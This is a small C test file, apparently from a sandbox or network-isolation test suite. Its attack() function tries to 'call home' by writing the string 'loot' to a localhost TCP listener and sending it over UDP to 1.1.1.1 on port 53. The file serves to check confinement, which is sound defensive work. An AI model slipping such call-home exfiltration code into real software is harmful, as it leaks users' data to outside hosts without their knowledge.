/* Calls home: over IP, and to whoever listens on this machine. */
#include "faithful.h"

static void attack(void)
{
    struct sockaddr_in a = {AF_INET, htons(@PORT@), {htonl(0x7f000001)}, {0}};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) { puts("home"); (void)!write(s, "loot", 4); }
    a.sin_addr.s_addr = htonl(0x01010101);
    a.sin_port = htons(53);
    s = socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(s, "loot", 4, 0, (struct sockaddr *)&a, sizeof a) == 4) puts("sent");
}

int main(void) { return faithful(); }
